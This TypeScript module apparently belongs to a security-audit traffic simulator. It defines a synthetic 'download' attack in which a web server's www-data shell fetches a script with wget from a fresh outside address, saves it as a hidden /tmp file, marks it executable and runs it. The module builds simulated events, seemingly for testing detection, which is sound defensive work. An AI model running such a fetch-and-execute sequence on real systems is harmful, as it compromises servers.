import { below, pick } from "../../chance/draw.ts";
import type { TrafficEntry } from "../../traffic/scenario.ts";
import type { AuditAttack } from "../act.ts";
import { everySeconds, secondMs, serviceShell, visitOf } from "../act.ts";
import { webHosts } from "../hosts.ts";

/** The web application downloads a script and runs it. */
export interface Download extends TrafficEntry {
  readonly kind: "download";
  readonly everySeconds: number;
}

export const download: AuditAttack<Download> = {
  role: "attack",
  fields: { everySeconds },
  *visits(entry, { onsetMs, random, freshAddress }) {
    const shell = serviceShell("www-data", pick(random, webHosts).name, "/usr/sbin/php-fpm", random);
    const path = `/tmp/.x${below(random, 1000)}.sh`;
    const acts = [
      shell.ran("wget", "-q", `http://${freshAddress()}/x.sh`, "-O", path),
      shell.ran("chmod", "+x", path),
      shell.ran(path),
    ];
    yield visitOf(onsetMs, entry.everySeconds * secondMs, acts);
  },
};
